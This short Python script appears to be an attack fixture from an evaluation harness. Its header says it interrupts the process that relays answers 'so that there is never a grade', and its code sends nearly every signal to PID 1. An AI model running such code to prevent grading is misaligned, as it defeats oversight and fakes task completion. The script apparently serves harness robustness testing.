# /// attack
# about = "interrupts the first process of its room, which relays its answers, so that there is never a grade"
# module = "worked_example"
# base = "reference"
# deserves = {}
# log = "signal"
# ///
import os
import signal

for _number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    os.kill(1, _number)
